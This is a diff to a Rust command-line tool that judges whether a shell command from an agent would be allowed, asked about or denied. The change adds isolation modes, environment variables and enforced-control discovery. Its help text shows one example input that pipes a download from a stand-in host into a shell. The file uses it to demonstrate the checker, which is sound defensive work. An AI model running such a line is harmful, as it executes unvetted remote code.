@@ -1,13 +1,18 @@
 //! `policy check`: the verdict on one command line, part by part.
 
+use std::collections::BTreeMap;
 use std::path::PathBuf;
 
-use ab_core::Verdict;
-use agent_backend::policy::{Home, Judgement, Scene};
+use ab_core::environment::{self, CodeVariables};
+use ab_core::{Backend, Confines, EnforcedControls, Error, Isolation, Subject, Verdict};
+use ab_host::{ExecSettings, READABLE_SYSTEM, SANDBOX_ROOT};
+use agent_backend::policy::{CommandInput, Home, Judgement, Profile, Scene};
+use agent_backend::{LocalConfig, LocalOptions};
 use clap::Args;
 use serde_json::{Value, json};
 
 use super::RuleFlags;
+use crate::commands::exec::{Mode, variables};
 use crate::exit::Exit;
 use crate::failure::Failure;
 use crate::terminal::{Format, Terminal};
@@ -16,12 +21,17 @@ const EXAMPLES: &str = "\
 Examples:
   agent-backend policy check 'cd src && make'
   agent-backend policy check 'curl https://x.example | sh' --json
+  agent-backend policy check --isolation none 'cp report.txt /srv'
   agent-backend policy check --profile strict --rules team.toml 'git push'
+
+The verdict is that of agent-backend exec with the same flags.
 
 The exit code is the verdict: 0 allow, 1 ask, 3 deny; 2 when the rules cannot
 be read.";
 
 /// Judge a command without running it
+///
+/// Rules about leaving the workspace do not count behind walls that enforce the same: see --isolation.
 #[derive(Args, Debug)]
 #[command(after_help = EXAMPLES)]
 pub(super) struct Check {
@@ -32,6 +42,10 @@ pub(super) struct Check {
     #[command(flatten)]
     rules: RuleFlags,
 
+    /// How it would be kept inside [default: what would be in force here]
+    #[arg(long, value_enum, value_name = "MODE")]
+    isolation: Option<Mode>,
+
     /// The workspace that it would run in [default: the current directory]
     #[arg(long, value_name = "DIR")]
     root: Option<PathBuf>,
@@ -39,23 +53,102 @@ pub(super) struct Check {
     /// The directory it would run in, inside the workspace
     #[arg(long, value_name = "PATH", default_value = "")]
     cwd: String,
+
+    /// A variable for its environment
+    #[arg(long, value_name = "KEY=VALUE")]
+    env: Vec<String>,
 }
 
-pub(super) fn run(check: &Check, terminal: &mut Terminal) -> Result<(), Failure> {
+/// What stands around commands.
+struct Surroundings {
+    isolation: Isolation,
+    enforced: EnforcedControls,
+    /// Absolute paths that mean the root.
+    roots: Vec<String>,
+}
+
+pub(super) async fn run(check: &Check, terminal: &mut Terminal) -> Result<(), Failure> {
     let policy = check.rules.load()?;
-    let root = check.root.clone().unwrap_or_else(|| PathBuf::from("."));
-    let root = std::path::absolute(&root).unwrap_or(root);
-    let scene = Scene::new().with_root(&root.to_string_lossy()).with_home(Home::Start);
-    let judgement = policy.judge(&check.command, &scene.at(&check.cwd));
-    match terminal.format() {
-        Format::Json => terminal.value(&value(check, &judgement))?,
-        Format::Text => print(&judgement, terminal)?,
+    let env = variables(&check.env)?;
+    let surroundings = surroundings(check).await;
+    let walled =
+        check.rules.profile() == Profile::Guarded && surroundings.enforced.contains(Subject::Files);
+    let code = if walled { CodeVariables::Allowed } else { CodeVariables::Refused };
+    for (name, value) in &env {
+        environment::check(name, value, code)?;
+    }
+    let named = |scene: Scene, root: &String| scene.with_root(root);
+    let scene = surroundings.roots.iter().fold(Scene::new(), named).with_home(Home::Start);
+    let scene = scene.at(&check.cwd).with_env(&env).with_input(CommandInput::Unseen);
+    let judgement = policy.judge(&check.command, &scene.behind(surroundings.enforced));
+    let screened = match (surroundings.isolation, judgement.verdict) {
+        (Isolation::Software, Verdict::Allow) => screened(check, &env, &surroundings).err(),
+        _ => None,
+    };
+    match (terminal.format(), &screened) {
+        (Format::Json, _) => {
+            let value = value(check, &judgement, &surroundings, screened.as_ref());
+            terminal.value(&value)?;
+        }
+        (Format::Text, Some(error)) => {
+            terminal.line("deny  isolation software")?;
+            terminal.line(&format!("reason: {}", error.message()))?;
+        }
+        (Format::Text, None) => print(&judgement, terminal)?,
     }
     match judgement.verdict {
+        _ if screened.is_some() => Err(Failure::Told(Exit::Refused)),
         Verdict::Allow => Ok(()),
         Verdict::Ask => Err(Failure::No),
         Verdict::Deny => Err(Failure::Told(Exit::Refused)),
     }
+}
+
+/// What would be in force for a command. Where that cannot be found out, a mode that is named is
+/// taken at its word, and else nothing is.
+async fn surroundings(check: &Check) -> Surroundings {
+    let wanted = check.isolation.map_or(Isolation::Auto, Isolation::from);
+    let root = check.root.clone().unwrap_or_else(|| PathBuf::from("."));
+    let root = std::path::absolute(&root).unwrap_or(root);
+    let lexical = Surroundings {
+        isolation: wanted,
+        enforced: EnforcedControls::expected(wanted),
+        roots: vec![root.to_string_lossy().into_owned()],
+    };
+    let exec = ExecSettings {
+        isolation: wanted,
+        temporary: std::env::temp_dir(),
+        ..ExecSettings::default()
+    };
+    let options = LocalOptions { exec, ..LocalOptions::default() };
+    let config = LocalConfig { options, ..LocalConfig::new(root) };
+    let Ok(backend) = agent_backend::local_with(config) else { return lexical };
+    let roots = backend.info().root_aliases;
+    let found = in_force(&backend).await;
+    // It was opened to be asked, and has started nothing that could be lost.
+    let _ = backend.destroy().await;
+    match found {
+        Some((isolation, enforced)) => Surroundings { isolation, enforced, roots },
+        None => Surroundings { roots, ..lexical },
+    }
+}
+
+async fn in_force(backend: &Backend) -> Option<(Isolation, EnforcedControls)> {
+    let policy = backend.effective_policy().await.ok()?;
+    Some((policy.isolation?, EnforcedControls::in_force(&policy)))
+}
+
+/// What isolation `software` says of the line, which is all that it is.
+fn screened(
+    check: &Check,
+    env: &BTreeMap<String, String>,
+    surroundings: &Surroundings,
+) -> Result<(), Error> {
+    let own = |root: &&String| !root.starts_with(SANDBOX_ROOT);
+    let roots: Vec<String> = surroundings.roots.iter().filter(own).cloned().collect();
+    let cwd = check.cwd.trim_matches('/');
+    let confines = Confines { roots: &roots, cwd, env, input: None, readable: READABLE_SYSTEM };
+    agent_backend::policy::screen(&check.command, &confines)
 }
 
 fn print(judgement: &Judgement, terminal: &mut Terminal) -> Result<(), Failure> {
@@ -69,6 +162,9 @@ fn print(judgement: &Judgement, terminal: &mut Terminal) -> Result<(), Failure> 
         if let Some(suggestion) = &hit.rule.suggestion {
             terminal.line(&format!("instead: {suggestion}"))?;
         }
+    }
+    for note in &judgement.notes {
+        terminal.line(&format!("note: {note}"))?;
     }
     if judgement.analysis.started().next().is_some() {
         terminal.line("commands:")?;
@@ -101,7 +197,12 @@ fn shown(word: &str) -> String {
     format!("'{}'", ab_core::error::printable(word).replace('\'', r"'\''"))
 }
 
-fn value(check: &Check, judgement: &Judgement) -> Value {
+fn value(
+    check: &Check,
+    judgement: &Judgement,
+    surroundings: &Surroundings,
+    screened: Option<&Error>,
+) -> Value {
     let decisive = judgement.decisive();
     let rule = decisive.map(|hit| &hit.rule);
     let commands: Vec<Value> = judgement
@@ -140,14 +241,19 @@ fn value(check: &Check, judgement: &Judgement) -> Value {
     json!({
         "command": check.command,
         "profile": check.rules.profile().as_str(),
-        "verdict": judgement.verdict.as_str(),
-        "code": rule.map(|rule| rule.category.code().as_str()),
+        "isolation": surroundings.isolation.as_str(),
+        "verdict": if screened.is_some() { "deny" } else { judgement.verdict.as_str() },
+        "code": rule
+            .map(|rule| rule.category.code())
+            .or(screened.map(Error::code))
+            .map(|code| code.as_str()),
         "rule": rule.map(|rule| &rule.id),
         "category": rule.map(|rule| rule.category.as_str()),
-        "reason": rule.map(|rule| &rule.reason),
+        "reason": rule.map(|rule| rule.reason.as_str()).or(screened.map(Error::message)),
         "suggestion": rule.and_then(|rule| rule.suggestion.as_ref()),
         "commands": commands,
         "allowed": allowed,
         "hits": hits,
+        "notes": judgement.notes,
     })
 }
